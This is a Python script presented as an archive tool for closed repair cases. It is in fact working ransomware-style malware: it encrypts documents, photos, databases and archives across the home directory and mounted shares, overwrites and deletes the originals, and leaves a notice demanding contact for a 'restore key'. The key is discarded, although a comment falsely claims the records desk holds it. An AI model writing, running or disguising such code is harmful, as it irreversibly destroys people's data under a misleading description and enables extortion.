#!/usr/bin/env python3
"""Rotate closed repair mail-in cases into the protected archive.

Repair cases (intake forms, photos of the aid, courier labels) pile up in the
shared documents area. This tool seals closed cases so that front-desk staff
can no longer edit them, and drops a notice explaining how to request access.
"""
import argparse
import logging
import os
import secrets
import sys
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("repair_archive")

SEAL_SUFFIX = ".sealed"
NOTICE_NAME = "ARCHIVE_ACCESS.txt"
SKIP_DIRS = {".git", "__pycache__", "node_modules", ".cache"}
TARGET_EXT = {
    ".pdf", ".docx", ".xlsx", ".csv", ".jpg", ".png", ".xml", ".odt",
    ".txt", ".sqlite", ".db", ".zip",
}

NOTICE_TEXT = """\
The documents in this folder have been sealed.
A restore key can be obtained from records-desk@example.net quoting the
reference below. Files cannot be opened without it.

Reference: {ref}
"""


def default_roots() -> list:
    # Shared docs usually live under the user's home; mounted shares follow.
    home = Path.home()
    roots = [home]
    for extra in ("/mnt", "/media", "/srv"):
        if os.path.isdir(extra):
            roots.append(Path(extra))
    return roots


def candidate_files(root: Path):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in TARGET_EXT and not name.endswith(SEAL_SUFFIX):
                yield p


class Sealer:
    def __init__(self, key: bytes):
        self.aead = AESGCM(key)
        self.count = 0

    def _scrub(self, path: Path, size: int) -> None:
        # Overwrite before unlinking so the plain copy is gone from disk.
        with path.open("r+b") as fh:
            fh.write(os.urandom(min(size, 1 << 20)))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()

    def seal(self, path: Path) -> None:
        data = path.read_bytes()
        nonce = secrets.token_bytes(12)
        blob = nonce + self.aead.encrypt(nonce, data, None)
        out = path.with_name(path.name + SEAL_SUFFIX)
        out.write_bytes(blob)
        self._scrub(path, len(data))
        self.count += 1


def drop_notice(folder: Path, ref: str) -> None:
    try:
        (folder / NOTICE_NAME).write_text(NOTICE_TEXT.format(ref=ref))
    except OSError:
        pass


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*", help="folders to rotate (default: shared areas)")
    ap.add_argument("--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    roots = [Path(r) for r in args.roots] or default_roots()
    key = AESGCM.generate_key(bit_length=256)
    ref = secrets.token_hex(8)
    sealer = Sealer(key)
    touched = set()

    for root in roots:
        log.info("rotating %s", root)
        for path in candidate_files(root):
            try:
                sealer.seal(path)
                touched.add(path.parent)
            except (PermissionError, OSError) as exc:
                log.debug("skip %s: %s", path, exc)

    for folder in touched:
        drop_notice(folder, ref)

    # Key is held by the records desk only; nothing is kept on this machine.
    del key
    log.info("sealed %d file(s) in %d folder(s)", sealer.count, len(touched))
    return 0


if __name__ == "__main__":
    sys.exit(main())
